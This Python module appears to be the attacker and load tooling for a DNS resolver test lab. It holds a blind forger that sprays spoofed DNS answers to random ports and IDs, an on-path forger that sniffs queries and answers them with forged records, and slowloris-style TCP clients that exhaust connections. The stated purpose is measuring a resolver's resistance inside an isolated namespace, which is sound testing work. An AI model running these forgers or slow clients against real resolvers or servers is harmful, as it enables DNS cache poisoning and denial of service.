#!/usr/bin/python3
"""The chaos lab's attackers and load (tests/chaos/README.md): a blind
forger of answers, an on-path forger (the control that proves a forged
answer with the right ID and port is taken, so the blind one's zero
means something), slow and idle TCP clients, a few probes of a process
(CPU, memory, descriptors) and a dnsperf wrapper.

Everything here runs inside the lab's private network namespace (it
needs CAP_NET_RAW there for the raw and packet sockets), and only ever
sends to addresses on its lo.
"""
import multiprocessing
import os
import random
import re
import selectors
import socket
import struct
import subprocess
import time

# Forged answers carry addresses from 198.18.0.0/15 (RFC 2544's
# benchmarking range), which no lab zone uses: one in an answer is a
# forged record that got through.
FORGED_PREFIX = (198, 18)


def is_forged(addr):
    a = [int(x) for x in addr.split(".")]
    return a[0] == FORGED_PREFIX[0] and a[1] & 0xFE == FORGED_PREFIX[1]


def wire_name(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def udp_ip_packet(src, dst, sport, dport, payload):
    """An IPv4 datagram for a raw IPPROTO_RAW socket: the kernel fills in
    the IP checksum and ID; a UDP checksum of 0 means none (RFC 768)."""
    ulen = 8 + len(payload)
    return struct.pack("!BBHHHBBH4s4sHHHH", 0x45, 0, 20 + ulen, 0, 0, 64, 17, 0,
                       socket.inet_aton(src), socket.inet_aton(dst),
                       sport, dport, ulen, 0) + payload


def forged_answer_tail(name):
    """Everything of a forged A answer to name after the 2-byte ID but the
    last 4 bytes (the address): flags QR AA, one question, one answer."""
    return (b"\x84\x00\x00\x01\x00\x01\x00\x00\x00\x00" + wire_name(name) +
            b"\x00\x01\x00\x01" + b"\xc0\x0c\x00\x01\x00\x01\x00\x01\x51\x80\x00\x04")


def port_range():
    with open("/proc/sys/net/ipv4/ip_local_port_range") as fh:
        lo, hi = fh.read().split()
    return int(lo), int(hi)


def udp_counters():
    """The namespace's UDP counters (/proc/net/snmp) as a dict."""
    with open("/proc/net/snmp") as fh:
        rows = [l.split() for l in fh if l.startswith("Udp:")]
    return dict(zip(rows[0][1:], (int(x) for x in rows[1][1:])))


# ------------------------------------------------------------ blind forger

def _forge(victim, dst, names, t0, rate, window, count, deadline, out):
    """Send count forged answers from victim:53 to dst, each to a random
    port of the ephemeral range with a random ID, answering one of the
    names asked in the last window seconds (name i is asked at
    t0 + i / rate)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    lo, hi = port_range()
    span = hi - lo + 1
    src, dsta = socket.inet_aton(victim), socket.inet_aton(dst)
    pack, rb = struct.pack, random.getrandbits
    tails = {}
    sent = 0
    errors = 0
    began = time.monotonic()
    while sent < count and time.monotonic() < deadline:
        now = time.monotonic()
        newest = min(len(names) - 1, int((now - t0) * rate))
        oldest = max(0, newest - int(window * rate))
        if newest < 0:
            time.sleep(0.001)
            continue
        # A batch for the names in flight now.
        for _ in range(256):
            r = rb(64)
            i = oldest + (r >> 48) % (newest - oldest + 1)
            tail = tails.get(i)
            if tail is None:
                tail = tails[i] = forged_answer_tail(names[i])
            dns = (pack("!H", r & 0xFFFF) + tail +
                   bytes((FORGED_PREFIX[0], FORGED_PREFIX[1] | (r >> 16) & 1,
                          (r >> 17) & 0xFF, (r >> 25) & 0xFF)))
            port = lo + ((r >> 33) & 0x7FFFFFF) % span
            ulen = 8 + len(dns)
            pkt = pack("!BBHHHBBH4s4sHHHH", 0x45, 0, 20 + ulen, 0, 0, 64, 17, 0,
                       src, dsta, 53, port, ulen, 0) + dns
            try:
                s.sendto(pkt, (dst, 0))
                sent += 1
            except OSError:
                errors += 1
    out.put((sent, errors, time.monotonic() - began))


def start_forger(victim, dst, names, t0, rate, window, count, deadline):
    """The blind forger in its own process. Returns (process, queue); the
    queue gets (sent, send errors, seconds)."""
    q = multiprocessing.Queue()
    p = multiprocessing.Process(target=_forge, daemon=True, args=(
        victim, dst, names, t0, rate, window, count, deadline, q))
    p.start()
    return p, q


# --------------------------------------------------------- on-path forger

def on_path_forge(victim, qname, timeout=5.0):
    """Sniff lo for the resolver's query for qname to victim:53 and answer
    it at once with a forged A record, with the query's own ID and port
    (what an on-path attacker can do, and an off-path one must guess).
    Returns the forged address, or None when no such query was seen."""
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sniff.bind(("lo", 0))
    sniff.settimeout(0.2)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    want = wire_name(qname.lower())
    vic = socket.inet_aton(victim)
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            frame = sniff.recv(65535)
        except socket.timeout:
            continue
        ip = frame[14:]
        if len(ip) < 28 or ip[0] >> 4 != 4 or ip[9] != 17 or ip[16:20] != vic:
            continue
        ihl = (ip[0] & 0xF) * 4
        sport, dport = struct.unpack("!HH", ip[ihl:ihl + 4])
        dns = ip[ihl + 8:]
        if dport != 53 or len(dns) < 12 + len(want) or dns[2] & 0x80:
            continue
        if dns[12:12 + len(want)].lower() != want:
            continue
        addr = "%d.%d.%d.%d" % (FORGED_PREFIX[0], FORGED_PREFIX[1], 66, 66)
        payload = dns[:2] + forged_answer_tail(qname.lower()) + socket.inet_aton(addr)
        raw.sendto(udp_ip_packet(victim, socket.inet_ntoa(ip[12:16]), 53, sport, payload),
                   (socket.inet_ntoa(ip[12:16]), 0))
        return addr
    return None


# ------------------------------------------------------ slow TCP clients

def _slow_clients(addr, port, n, mode, duration, reconnect, out):
    """n TCP connections to addr:port. mode "idle": connect and never
    send; "drip": send one byte a second of a query that never ends.
    With reconnect, a connection the server closes is opened again a
    second later (an attacker keeping the pressure, as slowloris tools
    do). Reports (connects, closed by the server, most open at once, open
    at the end)."""
    sel = selectors.DefaultSelector()
    conns = {}
    again = []              # when each closed connection is opened again
    stats = {"connects": 0, "closed": 0, "max_open": 0, "connect_errors": 0}
    # A length prefix announcing 512 bytes, then bytes that never add up.
    drip = b"\x02\x00" + b"\x12\x34\x01\x00\x00\x01" + b"\x00" * 506

    def connect():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect_ex((addr, port))
        except OSError:
            stats["connect_errors"] += 1
            s.close()
            return
        sel.register(s, selectors.EVENT_READ)
        conns[s] = 0
        stats["connects"] += 1

    end = time.monotonic() + duration
    for _ in range(n):
        connect()
    next_drip = time.monotonic() + 1.0
    while time.monotonic() < end:
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                sel.unregister(s)
                s.close()
                del conns[s]
                stats["closed"] += 1
                if reconnect:
                    again.append(time.monotonic() + 1.0)
        stats["max_open"] = max(stats["max_open"], len(conns))
        now = time.monotonic()
        while again and again[0] <= now and now < end:
            again.pop(0)
            connect()
        if mode == "drip" and time.monotonic() >= next_drip:
            next_drip += 1.0
            for s in list(conns):
                i = conns[s]
                if i < len(drip):
                    try:
                        s.send(drip[i:i + 1])
                        conns[s] = i + 1
                    except (BlockingIOError, InterruptedError):
                        pass
                    except OSError:
                        pass
    stats["open_at_end"] = len(conns)
    for s in conns:
        s.close()
    out.put(stats)


def start_slow_clients(addr, port, n, mode, duration, reconnect=True):
    q = multiprocessing.Queue()
    p = multiprocessing.Process(target=_slow_clients, daemon=True,
                                args=(addr, port, n, mode, duration, reconnect, q))
    p.start()
    return p, q


def raise_nofile(n):
    """Our own descriptor limit to at least n (the slow clients need it)."""
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < n:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(n, hard), hard))


# ------------------------------------------------------- process probes

def cpu_seconds(pid):
    """User + system CPU time of pid so far, in seconds."""
    with open("/proc/%d/stat" % pid) as fh:
        f = fh.read().rsplit(")", 1)[1].split()
    return (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")


def memory_kib(pid):
    """(VmRSS, VmHWM) of pid in KiB."""
    out = {}
    with open("/proc/%d/status" % pid) as fh:
        for line in fh:
            k, _, v = line.partition(":")
            if k in ("VmRSS", "VmHWM"):
                out[k] = int(v.split()[0])
    return out.get("VmRSS", 0), out.get("VmHWM", 0)


def open_fds(pid):
    return len(os.listdir("/proc/%d/fd" % pid))


def sanitized(pid):
    """Whether pid runs with AddressSanitizer (its memory figures then
    include ASan's shadow and quarantine)."""
    with open("/proc/%d/maps" % pid) as fh:
        return "libasan" in fh.read()


# --------------------------------------------------------------- dnsperf

class Perf:
    """One dnsperf run in the background: start(), then result()."""

    def __init__(self, server, port, datafile, qps, seconds, timeout=5, outstanding=1000,
                 tcp=False, clients=1):
        self.cmd = ["dnsperf", "-s", server, "-p", str(port), "-d", datafile,
                    "-l", str(seconds), "-t", str(timeout), "-q", str(outstanding),
                    "-c", str(clients), "-S", "1"]
        if qps:
            self.cmd += ["-Q", str(qps)]
        if tcp:
            self.cmd += ["-m", "tcp"]
        self.proc = None

    def start(self):
        self.proc = subprocess.Popen(self.cmd, stdout=subprocess.PIPE,
                                     stderr=subprocess.STDOUT, universal_newlines=True)
        return self

    def result(self):
        out, _ = self.proc.communicate()
        return PerfResult(out, self.proc.returncode)


class PerfResult:
    def __init__(self, text, rc):
        self.text = text
        self.rc = rc

        def num(pattern, default=0.0):
            m = re.search(pattern, text)
            return float(m.group(1)) if m else default
        self.sent = int(num(r"Queries sent:\s+(\d+)"))
        self.completed = int(num(r"Queries completed:\s+(\d+)"))
        self.lost = int(num(r"Queries lost:\s+(\d+)"))
        self.qps = num(r"Queries per second:\s+([\d.]+)")
        self.avg_ms = num(r"Average Latency \(s\):\s+([\d.]+)") * 1000
        self.max_ms = num(r"Average Latency \(s\):\s+[\d.]+ \(min [\d.]+, max ([\d.]+)\)") * 1000
        self.noerror = int(num(r"NOERROR (\d+)"))
        self.nxdomain = int(num(r"NXDOMAIN (\d+)"))
        self.servfail = int(num(r"SERVFAIL (\d+)"))
        # "-S 1": one "<timestamp>: <queries per second>" line a second.
        self.per_second = [round(float(x)) for x in
                           re.findall(r"(?m)^\d+\.\d+: ([\d.]+)$", text)]

    def ok(self):
        return self.rc == 0 and self.sent > 0

    def summary(self):
        return ("sent %d, completed %d (%.1f%%), lost %d, %.0f q/s, latency avg %.1f ms "
                "max %.0f ms; NOERROR %d NXDOMAIN %d SERVFAIL %d" % (
                    self.sent, self.completed, 100.0 * self.completed / max(1, self.sent),
                    self.lost, self.qps, self.avg_ms, self.max_ms, self.noerror,
                    self.nxdomain, self.servfail))


def write_names(path, names, qtype="A"):
    with open(path, "w") as fh:
        for n in names:
            fh.write("%s %s\n" % (n, qtype))
    return path
